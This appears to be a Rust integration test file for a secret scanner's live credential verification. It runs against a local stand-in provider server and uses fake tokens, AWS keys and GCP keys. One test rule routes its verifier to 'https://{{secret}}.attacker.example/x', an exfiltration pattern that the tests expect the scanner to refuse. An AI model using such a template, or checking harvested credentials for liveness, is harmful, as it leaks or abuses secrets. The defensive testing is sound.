//! Live verification against a local HTTPS server on 127.0.0.1 that plays the providers
//! (tests/support/provider.py; its CA is trusted only through the hidden --verify-ca flag):
//! live, dead, 429 with Retry-After, 500, slow, a WAF HTML page, a redirect to another host,
//! AWS STS with SigV4; one request per distinct secret; nothing leaves for another host.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use crate::common::{fake_aws_key, sprawl};
use serde_json::Value;
use tempfile::TempDir;

pub(crate) struct Proc(Child);

impl Proc {
    /// Kills and reaps `child` when dropped.
    pub(crate) fn new(child: Child) -> Proc {
        Proc(child)
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A test rule with a verifier, so the tests do not depend on any real provider's rule.
const RULES: &str = r#"
[[rule]]
id = "testprov.token"
name = "Test provider token"
provider = "TestProv"
pattern = '''\b(?P<secret>tpk_[A-Za-z0-9]{24})\b'''
keywords = ["tpk_"]
confidence = "high"
severity = "high"
examples = ["T=tpk_Ab3dEf6hIj9kLm2nOp5qRs8t"]
[rule.verify]
url = "https://api.testprov.example/v1/me"
headers = { Authorization = "Bearer {{secret}}" }
live = { status = [200], json = { ok = true } }
dead = { status = [401] }

[[rule]]
id = "slacklike.token"
name = "Slack-like token"
provider = "SlackLike"
pattern = '''\b(?P<secret>slk_[A-Za-z0-9]{24})\b'''
keywords = ["slk_"]
confidence = "high"
severity = "high"
examples = ["T=slk_Ab3dEf6hIj9kLm2nOp5qRs8t"]
[rule.verify]
url = "https://slack.example/api/auth.test"
method = "POST"
headers = { Authorization = "Bearer {{secret}}" }
live = { status = [200], json = { ok = true } }
dead = { status = [200, 401], json = { ok = false } }
"#;

/// A rule whose verifier would take its host from the scanned content: refused at load.
const SNEAKY: &str = r#"
[[rule]]
id = "sneaky.token"
name = "Token whose verifier tries to take its host from the content"
provider = "Sneaky"
pattern = '''\b(?P<secret>snk_[A-Za-z0-9]{24})\b'''
keywords = ["snk_"]
confidence = "high"
severity = "high"
examples = ["T=snk_Ab3dEf6hIj9kLm2nOp5qRs8t"]
[rule.verify]
url = "https://{{secret}}.attacker.example/x"
live = { status = [200] }
"#;

fn token(prefix: &str, n: u32) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut x = n.wrapping_mul(2_654_435_761).wrapping_add(99);
    let s: String = (0..24)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            A[(x % 62) as usize] as char
        })
        .collect();
    format!("{prefix}{s}")
}

/// CA + server certificate for 127.0.0.1, made with openssl.
pub(crate) fn certs(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let run = |args: &[&str]| {
        let st = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .stderr(Stdio::null())
            .stdout(Stdio::null())
            .status()
            .expect("openssl");
        assert!(st.success(), "openssl {args:?}");
    };
    run(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-days",
        "2",
        "-subj",
        "/CN=sprawl test CA",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
    ]);
    run(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-subj",
        "/CN=127.0.0.1",
        "-keyout",
        "srv.key",
        "-out",
        "srv.csr",
    ]);
    std::fs::write(
        dir.join("ext.cnf"),
        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\n",
    )
    .unwrap();
    run(&[
        "x509",
        "-req",
        "-in",
        "srv.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
        "-out",
        "srv.pem",
    ]);
    (dir.join("ca.pem"), dir.join("srv.pem"), dir.join("srv.key"))
}

pub(crate) struct Provider {
    pub(crate) port: u16,
    log: PathBuf,
    pub(crate) ca: PathBuf,
    _p: Proc,
}

impl Provider {
    fn start(dir: &Path, scenarios: &[(&str, &str)], aws_key_id: &str) -> Provider {
        Provider::start_with(dir, scenarios, aws_key_id, None)
    }

    fn start_with(
        dir: &Path,
        scenarios: &[(&str, &str)],
        aws_key_id: &str,
        default: Option<&str>,
    ) -> Provider {
        Provider::start_api(dir, scenarios, aws_key_id, default, None)
    }

    /// With `routes`: the `api:NAME` scenarios answer from these provider API routes.
    pub(crate) fn start_api(
        dir: &Path,
        scenarios: &[(&str, &str)],
        aws_key_id: &str,
        default: Option<&str>,
        routes: Option<&Value>,
    ) -> Provider {
        let (ca, cert, key) = certs(dir);
        let map: serde_json::Map<String, Value> = scenarios
            .iter()
            .map(|(t, s)| (t.to_string(), Value::String(s.to_string())))
            .collect();
        let sc = dir.join("scenarios.json");
        std::fs::write(&sc, serde_json::to_string(&map).unwrap()).unwrap();
        let log = dir.join("requests.jsonl");
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/provider.py");
        let mut child = Command::new("python3")
            .arg(script)
            .arg("--cert")
            .arg(&cert)
            .arg("--key")
            .arg(&key)
            .arg("--scenarios")
            .arg(&sc)
            .arg("--log")
            .arg(&log)
            .args(["--aws-key-id", aws_key_id])
            .args(default.map(|d| vec!["--default", d]).unwrap_or_default())
            .args(
                routes
                    .map(|r| {
                        let file = dir.join("routes.json");
                        std::fs::write(&file, serde_json::to_string(r).unwrap()).unwrap();
                        vec!["--routes".to_string(), file.display().to_string()]
                    })
                    .unwrap_or_default(),
            )
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3");
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line
            .trim()
            .strip_prefix("PORT ")
            .and_then(|p| p.parse().ok())
            .expect("PORT");
        Provider {
            port,
            log,
            ca,
            _p: Proc(child),
        }
    }

    pub(crate) fn requests(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    fn scan(&self, tree: &Path, rules: &Path, extra: &[&str]) -> (i32, Value) {
        let base = format!("https://127.0.0.1:{}", self.port);
        let out = sprawl()
            .arg("scan")
            .arg(tree)
            .args([
                "--format",
                "json",
                "--show-secrets",
                "--no-progress",
                "--verify",
                "--allow-internal",
            ])
            .arg("--rules")
            .arg(rules)
            .arg("--verify-ca")
            .arg(&self.ca)
            .args(["--verify-endpoint", &format!("testprov={base}")])
            .args(["--verify-endpoint", &format!("slacklike={base}")])
            .args(["--verify-endpoint", &format!("aws={base}")])
            .args(extra)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            serde_json::from_slice(&out.stdout).unwrap_or(Value::Null),
        )
    }
}

fn rules_dir(dir: &Path) -> PathBuf {
    let d = dir.join("rules");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(d.join("test.toml"), RULES).unwrap();
    d
}

fn outcome_of(doc: &Value, secret: &str) -> Value {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["secret"] == secret)
        .map(|f| f["verification"].clone())
        .unwrap_or_else(|| panic!("{secret} not found: {doc:#}"))
}

#[test]
fn every_outcome_and_only_the_rule_host() {
    let work = TempDir::new().unwrap();
    let t = |n| token("tpk_", n);
    let cases = [
        (t(1), "live"),
        (t(2), "dead"),
        (t(3), "retry_after"),
        (t(4), "always429"),
        (t(5), "error500"),
        (t(6), "slow"),
        (t(7), "html"),
        (t(8), "redirect"),
        (token("slk_", 9), "live"),
        (token("slk_", 10), "dead200"),
        (token("snk_", 11), "live"),
    ];
    let scen: Vec<(&str, &str)> = cases.iter().map(|(a, b)| (a.as_str(), *b)).collect();
    let provider = Provider::start(work.path(), &scen, "");
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    let body: String = cases
        .iter()
        .map(|(tok, _)| format!("KEY={tok}\n"))
        .collect();
    std::fs::write(tree.join("app.env"), body).unwrap();
    let rules = rules_dir(work.path());
    std::fs::write(rules.join("sneaky.toml"), SNEAKY).unwrap();
    let (code, doc) = provider.scan(&tree, &rules, &["--verify-timeout", "1"]);
    assert_eq!(code, 2, "the sneaky rule is an error: {doc:#}");
    let status = |i: usize| {
        outcome_of(&doc, &cases[i].0)["status"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(status(0), "live");
    assert_eq!(outcome_of(&doc, &cases[0].0)["http_status"], 200);
    assert_eq!(status(1), "dead");
    assert_eq!(status(2), "live", "429 with Retry-After is retried");
    assert_eq!(status(3), "unknown");
    assert_eq!(status(4), "unknown");
    assert_eq!(status(5), "unknown", "timeout");
    assert_eq!(status(6), "unknown", "HTML");
    assert_eq!(status(7), "unknown", "redirect elsewhere");
    assert_eq!(status(8), "live");
    assert_eq!(status(9), "dead", "ok:false in a 200");
    // A rule whose verifier would take its host from the content is refused when rules load:
    // its token is not even matched, and the scan says why (exit 2).
    let all = doc["findings"].as_array().unwrap();
    assert!(all.iter().all(|f| f["secret"] != cases[10].0.as_str()));
    assert!(
        doc["errors"].to_string().contains("sneaky.token"),
        "{doc:#}"
    );
    assert!(
        doc["errors"].to_string().contains("host must be fixed"),
        "{doc:#}"
    );

    let reqs = provider.requests();
    // Every request went to the one server, as the rule's path; the sneaky token never left.
    assert!(
        reqs.iter()
            .all(|r| r["host"] == format!("127.0.0.1:{}", provider.port))
    );
    assert!(
        reqs.iter()
            .all(|r| r["path"] == "/v1/me" || r["path"] == "/api/auth.test"),
        "{reqs:#?}"
    );
    assert!(!reqs.iter().any(|r| r.to_string().contains(&cases[10].0)));
    // The redirect was not followed: one request for that token.
    assert_eq!(
        reqs.iter()
            .filter(|r| r.to_string().contains(&cases[7].0))
            .count(),
        1
    );
    // 429 then success: two requests; always-429: the first try plus two retries.
    assert_eq!(
        reqs.iter()
            .filter(|r| r.to_string().contains(&cases[2].0))
            .count(),
        2
    );
    assert_eq!(
        reqs.iter()
            .filter(|r| r.to_string().contains(&cases[3].0))
            .count(),
        3
    );
}

#[test]
fn a_hundred_copies_of_five_secrets_make_five_requests() {
    let work = TempDir::new().unwrap();
    let toks: Vec<String> = (20..25).map(|n| token("tpk_", n)).collect();
    let scen: Vec<(&str, &str)> = toks.iter().map(|t| (t.as_str(), "live")).collect();
    let provider = Provider::start(work.path(), &scen, "");
    let tree = work.path().join("tree");
    for i in 0..100 {
        let d = tree.join(format!("svc{i:03}"));
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(d.join("config.env"), format!("TOKEN={}\n", toks[i % 5])).unwrap();
    }
    let (code, doc) = provider.scan(&tree, &rules_dir(work.path()), &[]);
    assert_eq!(code, 1);
    let findings = doc["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 100);
    assert!(
        findings
            .iter()
            .all(|f| f["verification"]["status"] == "live")
    );
    assert_eq!(provider.requests().len(), 5);
    assert!(
        doc["notes"]
            .to_string()
            .contains("5 distinct secret(s), 5 request(s)"),
        "{doc:#}"
    );

    // With a cache, a second run within --verify-max-age asks nothing; with max age 0, again.
    let cache = work.path().join("verify-cache.json");
    let c = ["--verify-cache", cache.to_str().unwrap()];
    provider.scan(&tree, &rules_dir(work.path()), &c);
    assert_eq!(provider.requests().len(), 10);
    let cached = std::fs::read_to_string(&cache).unwrap();
    assert!(!cached.contains(&toks[0]), "no secret in the cache");
    let (_, doc) = provider.scan(&tree, &rules_dir(work.path()), &c);
    assert_eq!(provider.requests().len(), 10);
    assert!(
        doc["notes"].to_string().contains("0 request(s), 5 cached"),
        "{doc:#}"
    );
    let all = doc["findings"].as_array().unwrap();
    assert!(all.iter().all(|f| f["verification"]["status"] == "live"));
    provider.scan(
        &tree,
        &rules_dir(work.path()),
        &[c[0], c[1], "--verify-max-age", "0"],
    );
    assert_eq!(provider.requests().len(), 15);
}

#[test]
fn aws_key_pair_is_checked_with_a_sigv4_signed_sts_call() {
    let work = TempDir::new().unwrap();
    let id = fake_aws_key(77);
    let secret = "kZ3vQ8pL2xW7mN4rT9yB1cF6hJ0sD5gA3eU8iO2q";
    let provider = Provider::start(work.path(), &[(id.as_str(), "aws")], &id);
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(
        tree.join("credentials"),
        format!("[default]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n"),
    )
    .unwrap();
    let (_, doc) = provider.scan(&tree, &rules_dir(work.path()), &[]);
    assert_eq!(outcome_of(&doc, secret)["status"], "live", "{doc:#}");
    let reqs = provider.requests();
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0]["method"], "POST");
    let auth = reqs[0]["headers"]
        .as_object()
        .unwrap()
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("authorization"))
        .map(|(_, v)| v.as_str().unwrap().to_string())
        .unwrap();
    assert!(auth.starts_with("AWS4-HMAC-SHA256"), "{auth}");

    // The same pair from a canary account is not sent at all.
    let account = sprawl::verify::aws::account_of_key_id(&id).unwrap();
    let (_, doc) = provider.scan(
        &tree,
        &rules_dir(work.path()),
        &["--skip-aws-account", &account],
    );
    assert_eq!(outcome_of(&doc, secret)["status"], "skipped");
    assert_eq!(provider.requests().len(), 1);
}

#[test]
fn internal_addresses_are_refused_without_allow_internal() {
    let work = TempDir::new().unwrap();
    let tok = token("tpk_", 40);
    let provider = Provider::start(work.path(), &[(tok.as_str(), "live")], "");
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("a.env"), format!("T={tok}\n")).unwrap();
    let out = sprawl()
        .arg("scan")
        .arg(&tree)
        .args(["--format", "json", "--show-secrets", "--verify"])
        .arg("--rules")
        .arg(rules_dir(work.path()))
        .arg("--verify-ca")
        .arg(&provider.ca)
        .args([
            "--verify-endpoint",
            &format!("testprov=https://127.0.0.1:{}", provider.port),
        ])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let v = outcome_of(&doc, &tok);
    assert_eq!(v["status"], "skipped");
    assert!(
        v["reason"].as_str().unwrap().contains("internal address"),
        "{v:#}"
    );
    assert!(provider.requests().is_empty());
}

#[test]
fn without_verify_nothing_is_sent() {
    let work = TempDir::new().unwrap();
    let tok = token("tpk_", 50);
    let provider = Provider::start(work.path(), &[(tok.as_str(), "live")], "");
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("a.env"), format!("T={tok}\n")).unwrap();
    let out = sprawl()
        .arg("scan")
        .arg(&tree)
        .args(["--format", "json"])
        .arg("--rules")
        .arg(rules_dir(work.path()))
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(doc["findings"][0]["verification"].is_null());
    assert!(provider.requests().is_empty());
}

/// True when the request's HTTP Basic credentials contain `secret`.
fn basic_contains(q: &Value, secret: &str) -> bool {
    use base64::Engine as _;
    q["headers"].as_object().is_some_and(|h| {
        h.iter().any(|(k, v)| {
            k.eq_ignore_ascii_case("authorization")
                && v.as_str()
                    .and_then(|v| v.strip_prefix("Basic "))
                    .and_then(|b| base64::engine::general_purpose::STANDARD.decode(b).ok())
                    .is_some_and(|d| String::from_utf8_lossy(&d).contains(secret))
        })
    })
}

/// Every built-in verifiable rule: its first example, checked against the local server standing
/// in for its provider. Each request must go to the rule's own path with the secret in it, one
/// request per distinct secret; rules needing a companion the example lacks are skipped.
#[test]
fn every_builtin_verifier_renders_and_sends_its_request() {
    let work = TempDir::new().unwrap();
    let provider = Provider::start_with(work.path(), &[], "", Some("live"));
    let list = sprawl()
        .args(["rules", "list", "--verifiable", "--json"])
        .output()
        .unwrap();
    let rules: Vec<Value> = serde_json::from_slice(&list.stdout).unwrap();
    assert!(rules.len() >= 40, "{} verifiable rules", rules.len());
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    let mut providers = std::collections::BTreeSet::new();
    for (i, r) in rules.iter().enumerate() {
        let example = r["examples"][0].as_str().unwrap();
        std::fs::write(
            tree.join(format!("example{i:03}.txt")),
            format!("{example}\n"),
        )
        .unwrap();
        providers.insert(
            r["id"]
                .as_str()
                .unwrap()
                .split('.')
                .next()
                .unwrap()
                .to_string(),
        );
    }
    let base = format!("https://127.0.0.1:{}", provider.port);
    let mut cmd = sprawl();
    cmd.arg("scan")
        .arg(&tree)
        .args([
            "--format",
            "json",
            "--show-secrets",
            "--no-progress",
            "--verify",
            "--allow-internal",
        ])
        .arg("--verify-ca")
        .arg(&provider.ca);
    for p in &providers {
        cmd.args(["--verify-endpoint", &format!("{p}={base}")]);
    }
    let out = cmd.output().unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = doc["findings"].as_array().unwrap();
    let reqs = provider.requests();
    let mut checked = std::collections::BTreeSet::new();
    for r in &rules {
        let id = r["id"].as_str().unwrap();
        let Some(f) = findings.iter().find(|f| f["rule_id"] == id) else {
            continue;
        };
        let v = &f["verification"];
        let secret = f["secret"].as_str().unwrap();
        if v["status"] == "skipped" {
            let why = v["reason"].as_str().unwrap();
            assert!(
                ["same file", "shape", "encrypted", "not parsed"]
                    .iter()
                    .any(|w| why.contains(w)),
                "{id}: {why}"
            );
            continue;
        }
        checked.insert(id.to_string());
        if r["verify"]["builtin"].is_string() {
            continue;
        }
        // The request carried the secret (raw, URL-encoded or in Basic auth) to the rule's path.
        let url = r["verify"]["url"].as_str().unwrap();
        let path_prefix: String = url
            .trim_start_matches("https://")
            .split_once('/')
            .map(|(_, p)| format!("/{p}"))
            .unwrap_or_default()
            .split("{{")
            .next()
            .unwrap()
            .to_string();
        let captured = r["verify"]["secret_captures"].is_string();
        let sent = reqs.iter().any(|q| {
            let text = q.to_string();
            let path = q["path"].as_str().unwrap();
            // Captures of the secret (webhook id and token) go into the path.
            if captured && path.starts_with(path_prefix.as_str()) {
                let tail = path[path_prefix.len()..]
                    .split(['/', '?', '.'])
                    .next()
                    .unwrap_or("");
                if !tail.is_empty() && secret.contains(tail) {
                    return true;
                }
            }
            q["path"]
                .as_str()
                .unwrap()
                .starts_with(path_prefix.as_str())
                && (text.contains(secret)
                    || text.contains(&secret.replace('/', "%2F"))
                    || text.contains(&secret.replace(':', "%3A"))
                    || basic_contains(q, secret))
        });
        assert!(
            sent,
            "{id}: no request to {path_prefix} with the secret; {reqs:#?}"
        );
    }
    eprintln!(
        "{} verifiable rules, {} verified against the stand-in, {} requests",
        rules.len(),
        checked.len(),
        reqs.len()
    );
    assert!(
        checked.len() >= 40,
        "only {} rules verified: {checked:?}",
        checked.len()
    );
    let distinct: std::collections::BTreeSet<(&str, &str)> = findings
        .iter()
        .filter(|f| {
            // Offline outcomes (private keys, unusable key material) sent nothing.
            f["verification"]["http_status"].is_number()
        })
        .map(|f| {
            (
                f["rule_id"].as_str().unwrap(),
                f["fingerprint"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        reqs.len(),
        distinct.len(),
        "one request per distinct secret"
    );
}

/// The `private-key` built-in derives the same public-key fingerprint as `ssh-keygen -l`, for
/// keys ssh-keygen itself wrote (OpenSSH, PEM RSA, PKCS#8 ECDSA, and a passphrase-protected
/// OpenSSH key, whose public half is stored in clear), without any request.
#[test]
fn private_keys_are_checked_offline_against_ssh_keygen() {
    let work = TempDir::new().unwrap();
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    let keys = [
        ("ed25519", vec!["-t", "ed25519", "-N", ""]),
        (
            "rsa_pem",
            vec!["-t", "rsa", "-b", "2048", "-m", "PEM", "-N", ""],
        ),
        (
            "ecdsa_pkcs8",
            vec!["-t", "ecdsa", "-b", "256", "-m", "PKCS8", "-N", ""],
        ),
        ("ed25519_enc", vec!["-t", "ed25519", "-N", "correct horse"]),
    ];
    let mut expected = Vec::new();
    for (name, args) in &keys {
        let path = tree.join(name);
        let st = Command::new("ssh-keygen")
            .args(args)
            .args(["-q", "-C", "test", "-f"])
            .arg(&path)
            .status()
            .expect("ssh-keygen");
        assert!(st.success());
        let _ = std::fs::remove_file(path.with_extension("pub"));
        let lf = Command::new("ssh-keygen")
            .args([
                "-l",
                "-E",
                "sha256",
                "-P",
                if name.ends_with("_enc") {
                    "correct horse"
                } else {
                    ""
                },
                "-f",
            ])
            .arg(&path)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&lf.stdout).into_owned();
        let fp = text
            .split_whitespace()
            .nth(1)
            .unwrap_or_default()
            .to_string();
        assert!(fp.starts_with("SHA256:"), "{text}");
        expected.push((name.to_string(), fp));
    }
    let out = sprawl()
        .arg("scan")
        .arg(&tree)
        .args(["--format", "json", "--no-progress", "--verify"])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = doc["findings"].as_array().unwrap();
    for (name, fp) in &expected {
        let f = findings
            .iter()
            .find(|f| f["path"].as_str().unwrap().ends_with(&format!("/{name}")))
            .unwrap_or_else(|| panic!("{name} not found: {doc:#}"));
        let pk = f["verification"]["public_key"]
            .as_str()
            .unwrap_or_else(|| panic!("{f:#}"));
        assert!(pk.ends_with(fp.as_str()), "{name}: {pk} vs {fp}");
        assert_eq!(f["verification"]["status"], "unknown");
    }
    assert!(doc["notes"].to_string().contains("0 request(s)"), "{doc:#}");
}

/// A GCP service-account key file: the key signs a JWT for its client_email, exchanged at the
/// (stand-in) token endpoint; a deleted account's key is dead. The e-mail is only a companion.
#[test]
fn gcp_service_account_key_signs_a_jwt_for_the_token_endpoint() {
    let work = TempDir::new().unwrap();
    let provider = Provider::start(work.path(), &[], "");
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    let mut secrets = Vec::new();
    for (name, email) in [
        (
            "live.json",
            "deployer@orbit-ledger-48213.iam.gserviceaccount.com",
        ),
        (
            "dead.json",
            "revoked-bot@orbit-ledger-48213.iam.gserviceaccount.com",
        ),
    ] {
        let key = work.path().join(format!("{name}.pem"));
        let st = Command::new("openssl")
            .args([
                "genpkey",
                "-algorithm",
                "RSA",
                "-pkeyopt",
                "rsa_keygen_bits:2048",
                "-out",
            ])
            .arg(&key)
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success());
        let pem = std::fs::read_to_string(&key).unwrap();
        // Written in the order Google writes key files (`type` first).
        let text = format!(
            "{{\n  \"type\": \"service_account\",\n  \"project_id\": \"orbit-ledger-48213\",\n  \"private_key_id\": \"8fcbbc92c2143501f5e601f267032985eb0740b7\",\n  \"private_key\": {},\n  \"client_email\": \"{email}\",\n  \"client_id\": \"207291340272330812237\"\n}}\n",
            serde_json::to_string(&pem).unwrap()
        );
        std::fs::write(tree.join(name), text).unwrap();
        secrets.push((name, pem.replace('\n', "\\n")));
    }
    let (_, doc) = provider.scan(
        &tree,
        &rules_dir(work.path()),
        &[
            "--verify-endpoint",
            &format!("gcp=https://127.0.0.1:{}", provider.port),
        ],
    );
    let findings = doc["findings"].as_array().unwrap();
    let status = |file: &str| {
        findings
            .iter()
            .find(|f| {
                f["path"].as_str().unwrap().ends_with(file)
                    && f["rule_id"] == "gcp.service-account.private-key"
            })
            .map(|f| f["verification"]["status"].clone())
            .unwrap_or_else(|| panic!("{file}: {doc:#}"))
    };
    assert_eq!(status("live.json"), "live");
    assert_eq!(status("dead.json"), "dead");
    assert!(
        findings
            .iter()
            .all(|f| f["rule_id"] != "gcp.service-account.client-email")
    );
    assert_eq!(provider.requests().len(), 2);
}

/// `sprawl verify --store` re-checks the secrets an inventory holds in plaintext (one request
/// each) and records the outcome for the rotation report; without plaintext nothing is sent.
#[test]
fn verify_store_rechecks_inventory_secrets() {
    let work = TempDir::new().unwrap();
    let live = token("tpk_", 60);
    let dead = token("tpk_", 61);
    let provider = Provider::start(
        work.path(),
        &[(live.as_str(), "live"), (dead.as_str(), "dead")],
        "",
    );
    let tree = work.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("a.env"), format!("A={live}\nB={dead}\n")).unwrap();
    std::fs::write(tree.join("b.env"), format!("A={live}\n")).unwrap();
    let rules = rules_dir(work.path());
    let store = work.path().join("inv.db");
    let no_plain = work.path().join("plain-less.db");
    for (db, extra) in [(&store, vec!["--store-secrets"]), (&no_plain, vec![])] {
        let st = sprawl()
            .arg("scan")
            .arg(&tree)
            .args(["--format", "json", "--no-progress", "--rules"])
            .arg(&rules)
            .arg("--store")
            .arg(db)
            .args(&extra)
            .output()
            .unwrap();
        assert_eq!(st.status.code(), Some(1));
    }
    let out = sprawl()
        .args(["verify", "--allow-internal", "--store"])
        .arg(&store)
        .arg("--verify-ca")
        .arg(&provider.ca)
        .args([
            "--verify-endpoint",
            &format!("testprov=https://127.0.0.1:{}", provider.port),
        ])
        .arg("--rules")
        .arg(&rules)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("2 request(s): 1 live, 1 dead"), "{stderr}");
    assert_eq!(provider.requests().len(), 2);
    let rep = sprawl()
        .args(["report", "--format", "json", "--store"])
        .arg(&store)
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&rep.stdout).unwrap();
    let statuses: Vec<&str> = doc["secrets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["verification"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, ["live", "dead"], "live first: {doc:#}");

    let out = sprawl()
        .args(["verify", "--allow-internal", "--store"])
        .arg(&no_plain)
        .arg("--rules")
        .arg(&rules)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("2 stored without plaintext"));
    assert_eq!(provider.requests().len(), 2);
}
